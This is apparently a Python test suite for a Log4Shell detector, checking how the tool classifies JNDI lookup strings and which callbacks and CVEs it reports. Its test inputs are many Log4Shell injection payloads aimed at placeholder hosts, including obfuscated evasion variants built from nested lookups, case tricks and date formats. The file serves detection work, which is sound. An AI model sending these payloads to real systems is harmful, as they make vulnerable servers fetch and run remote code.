#!/usr/bin/python3
"""Each sentence of the description of Log4j 2.14.1 as a question to `jndiwatch explain`.

usage: test_sentences.py PROGRAM

The tests are in the order of the description: passes, one pass, name and default, prefixes, values,
cycles and exceptions, what JNDI is asked, what a sensor decides. The unit tests of the evaluator
ask much of this of the evaluator alone; here the peeler stands before it, and must change nothing.
"""

import json
import string
import subprocess
import sys
import unittest

import reference

PROGRAM = sys.argv.pop(1)
N = "java:comp/env/N"
INVALID = reference.INVALID_PATTERN
# Upper case has ASCII letters in it.
TO_UPPER = {"\u0131": "I", "\u017f": "S", "\u00df": "SS", "\ufb00": "FF", "\ufb01": "FI",
            "\ufb02": "FL", "\ufb03": "FFI", "\ufb04": "FFL", "\ufb05": "ST", "\ufb06": "ST",
            "\u0149": "\u02bcN", "\u01f0": "J\u030c", "\u1e96": "H\u0331", "\u1e97": "T\u0308",
            "\u1e98": "W\u030a", "\u1e99": "Y\u030a", "\u1e9a": "A\u02be"}
TO_LOWER = {"\u212a": "k", "\u0130": "i\u0307", "\u212b": "\u00e5", "\u0391\u03a3": "\u03b1\u03c2",
            "\u03a3\u0391": "\u03c3\u03b1", "\u03a3": "\u03c3"}


def answers(texts):
    feed = "".join(json.dumps({"id": i, "payload": t}) + "\n" for i, t in enumerate(texts))
    done = subprocess.run([PROGRAM, "explain", "--jsonl", "--time", str(reference.EVENT_TIME)],
                          input=feed.encode(), stdout=subprocess.PIPE, check=True, timeout=100)
    return [json.loads(line) for line in done.stdout.splitlines()]


class Sentences(unittest.TestCase):
    """What is asked, and what is not."""

    def ask(self, rows):
        """Each text asks these names, one or a list, and is an attack."""
        for (text, names), got in zip(rows.items(), answers(rows)):
            names = [names] if isinstance(names, str) else names
            with self.subTest(text=text[:200]):
                self.assertEqual((got["class"], got["lookups"], got.get("over_budget")),
                                 ("attack", ["jndi:" + name for name in names], None))

    def are(self, kind, *texts):
        for text, got in zip(texts, answers(texts)):
            with self.subTest(text=text[:200]):
                self.assertEqual((got["class"], got["detected"], got.get("over_budget")),
                                 (kind, False, None))

    def test_passes(self):
        self.ask({"$${jndi:N} ${z}": N, "$${jndi:N}${": N, "${::-ab}$${jndi:N}": N,
                  "${::-x$}{jndi:N}": N, "${::-$}{jndi:N} ${a}": N,
                  " ".join("${jndi:ldap://x/%d}" % i for i in range(40)):
                  ["ldap://x/%d" % i for i in range(40)],
                  " ".join(["${jndi:ldap://x/a}"] * 40): "ldap://x/a"})
        self.are("conditional", "$${jndi:N}", "a$${jndi:N}", "$$${jndi:N}", "${::-$}{jndi:N}",
                 "x${::-$}{jndi:N}", "${::-}$${jndi:N}")

    def test_one_pass(self):
        self.ask({"${a:-${jndi:N}}": N, "${date:${jndi:N}}": N, "${${jndi:N}}": N,
                  "${lower:$${jndi:N}}": "java:comp/env/n", "${a:-$${jndi:N}}": N,
                  "${lower:${lower:$$${jndi:N}}}": "java:comp/env/n",
                  "${jndi:ldap://x/$${a:-b}}": "ldap://x/${a", "$${${jndi:N}}": N,
                  "${upper:${lower:${jndi:N}}}": [N, "java:comp/env/n"],
                  "${jndi:ldap://x/{a}}": "ldap://x/{a", "${jndi:N} ${ ${jndi:M}": N})
        self.are("conditional", "${lower:$$${jndi:N}}", "${ ${jndi:N}", "${jndi:ldap://x/a${")

    def test_name_and_default(self):
        self.ask({"${jndi:\\-ldap://x/a:-}": "ldap://x/a", "${jndi:ldap:\\-//x/a:-}": "ldap://x/a",
                  "${jndi:\\-ldap://x}": "-ldap://x", "${jndi:x:\\-y:\\-z:-d}": "x:y:\\-z",
                  "${${::-j}${:-n}${:::::-d}${a:b:c:-i}:N}": N, "${a:-b:-${jndi:N}}": N,
                  "${${env::-j}${sys::-n}${ctx::-d}i:N}": N, "${jndi:ldap://x/a:-z}": "ldap://x/a",
                  "${jndi::-x}": "java:comp/env/", "${jndi:x:${a${::-:}-x}}": "x:x"})
        self.are("none", "${${-j}ndi:N}", "${${upper::-j}ndi:N}", "${${lower::-j}ndi:N}",
                 "${${date::-j}ndi:N}")
        self.are("attempt", "${jndi:-x}")

    def test_prefixes(self):
        self.ask({"${JnDi:N}": N, "${jnd${upper:\u0131}:N}": N, "${${lower:jndi:N}}":
                  "java:comp/env/n", "${jndi:x:${mar\u212aer:a:-y}${\u212a8s:a:-z}}": "x:yz",
                  "${jndi:${hostName}}": "java:comp/env/${hostName}",
                  "${jndi:x:${a:hostName}${env:hostName}/${hostname}}":
                  "x:${hostName}${hostName}/${hostname}",
                  "${jndi:x:${jndi:hostName}}": ["java:comp/env/hostName", "x:${hostName}"]})
        self.are("none", "${foo:jndi:N}", "${:jndi:N}", "${lower:jndi:N}", "${jn\u00addi:ldap://x}",
                 "${jn\u200bdi:ldap://x}", "${\uff4a\uff4e\uff44\uff49:ldap://x}",
                 "${${base64:am5kaQ==}:ldap://x}")

    def test_values(self):
        self.ask({"${jndi:x:${%s:-y}}" % name: "x:y" for name in (
            "env:PATH", "sys:user.name", "sys:", "ctx:a", "main:0", "map:a", "sd:a", "marker:a",
            "event:foo", "event:level", "bundle:a:b", "jvmrunargs:a", "log4j:a", "docker:a",
            "k8s:a", "kubernetes:a", "spring:a", "web:a", "java", "date", "lower")})
        self.ask({"${jndi:x:${%s}}" % name: "x:${%s}" % name for name in (
            "env:PATH", "sys:user.name", "hostName", "contextName", "java:version", "java:runtime",
            "java:vm", "java:os", "java:hw", "java:locale", "event:Level", "event:Logger",
            "event:ThreadName", "event:ThreadId", "event:Timestamp")})
        self.ask({"${jndi${sys:path.separator}x/${sys:file.separator}a:}": "x//a:",
                  "${jndi:x:${sys:line.separator}}": "x:\n", "${jndi:x:${upper:}${lower:}}": "x:",
                  "${jndi:x:${lower:A:-B}}": "x:a", "${jndi:N} ${java:x}": N,
                  "${java:-j} ${jndi:N}": N})
        self.are("attempt", "${java:x} ${jndi:N}", "${java:} ${jndi:N}", "${jndi:N${java:x}}")

    def test_letters_of_dates(self):
        rows = {"${jndi:x:${date:%s}}" % c: "x:" + reference.format_date(c)
                for c in reference.LETTERS}
        rows.update({"${jndi:x:${date:%s}}" % c: "x:" + INVALID
                     for c in string.ascii_letters if c not in reference.LETTERS})
        self.ask(rows)
        self.ask({"${jndi:x:${date:}${date::}${date:/}${date:1.\u00e4-}}": "x::/1.\u00e4-",
                  "${jndi:x:${date:'j'}${date:''}${date:'a''b'}}": "x:j'a'b",
                  "${jndi:x:${date:'j}|${date:XXXX}}": "x:%s|%s" % (INVALID, INVALID),
                  "${${date:'j'}nd${date:'i'}${date::}N}": N})

    def test_case_of_letters_that_are_no_ascii(self):
        self.ask({"${jndi:x:${upper:%s}}" % c: "x:" + to for c, to in TO_UPPER.items()})
        self.ask({"${jndi:x:${lower:%s}}" % c: "x:" + to for c, to in TO_LOWER.items()})

    def test_cycles_and_depth(self):
        self.ask({"${a:-$${A:-b}} ${jndi:N}": N, "${lower:${lower:x}} ${jndi:N}": N,
                  "${jndi:N:-$${jndi:N}} ${jndi:M}": N})
        self.are("attempt", *(text + " ${jndi:N}" for text in (
            "${a:-$${a:-b}}", "${a:-$${a}}", "${event:Message}", "${${::-${::-$${::-j}}}}")))
        self.ask({head * 1700 + "${jndi:x:a}" + "}" * 1700: "x:a"
                  for head in ("${:-", "${", "${lower:", "${a:-b")})
        self.assertEqual(answers(["${${::-${::-$${::-j}}}}"])[0]["cves"], ["CVE-2021-45105"])
        self.assertTrue(answers(["${:-" * 20000 + "${jndi:x:a}" + "}" * 20000])[0]["over_budget"])

    def test_what_jndi_is_asked(self):
        rows = {  # name: call-back, or None where it stays on the machine
            "ldap://h/a": "ldap://h:389/a", "ldaps://h": "ldaps://h:636",
            "rmi://h/a": "rmi://h:1099/a", "dns://h/a": "dns://h:53/a",
            "iiop://h/a": "iiop://h:900/a", "ldap:/h": "ldap://localhost:389/h",
            "ldap:///h": "ldap://localhost:389/h", "ldap://:99/": "ldap://localhost:99/",
            "ldap://[2001:db8::1]:99/a": "ldap://[2001:db8::1]:99/a",
            "ldap://[2001:db8::1]/a": "ldap://[2001:db8::1]:389/a",
            "ldap://user@h:99/a": "ldap://user@h:99/a",
            "ldap://2130706433:99/a b;c\n": "ldap://2130706433:99/a b;c\n",
            "ldap://127.0.0.1#evil:99/a": "ldap://127.0.0.1#evil:99/a",
            "LDAP://h/a": None, "Ldap://h/a": None, "RMI://h/a": None, " ldap://h/a": None,
            "${upper:l}dap://h": None, "http://h/a": None, "https://h/a": None, "nis://h/a": None,
            "nds://h/a": None, "corba://h/a": None, "tcp://h/a": None, "a/ldap://h": None,
            "java:comp/env/x": None, "logging/context-name": None, "java:x": None}
        for (name, back), got in zip(rows.items(), answers("${jndi:%s}" % n for n in rows)):
            with self.subTest(name=name):
                self.assertEqual((got["class"], got["reaches_network"]),
                                 ("attack", back is not None))
                if back is not None:
                    self.assertEqual(got["callbacks"], [back])
        self.ask({"${jndi:foo}": "java:comp/env/foo", "${jndi:java:comp/env/a}": "java:comp/env/a",
                  "${jndi:logging/context-name}": "java:comp/env/logging/context-name",
                  "${jndi: \0\n${env:X}}": " \0\n${env:X}"})

    def test_cves(self):
        for text, cves in (("${jndi:ldap://h/a}", ["CVE-2021-44228"]),
                           ("${${ctx:a:-j}ndi:ldap://h/a}", ["CVE-2021-44228", "CVE-2021-45046"]),
                           ("${jndi:ldap://127.0.0.1#h/a}", ["CVE-2021-44228", "CVE-2021-45046"]),
                           ("${java:x}", [])):
            self.assertEqual(answers([text])[0]["cves"], cves, text)

    def test_attempts_and_none(self):
        self.are("attempt", *(opener + "jndi:ldap://x/a" for opener in ("#{", "%{", "$(")),
                 *("${%s:ldap://x/a}" % name for name in (
                     "jndi ", " jndi", "\tjndi", "jndi\n", "jndi\0", "\ufeffjndi", "jnd\u0131",
                     "JND\u0130")), "${jndi ldap://x}")
        self.are("conditional", "${jndi:ldap://x/a", '{"a":"${jndi:ldap://x/a"')
        self.are("none", "${jndi}", "", "${", "${}", "the jndi: of ${log4j}", "jndi:ldap://x/a",
                 "${jndi.name:x}", "${jndiName:x}", "#{jndi}")


if __name__ == "__main__":
    unittest.main()
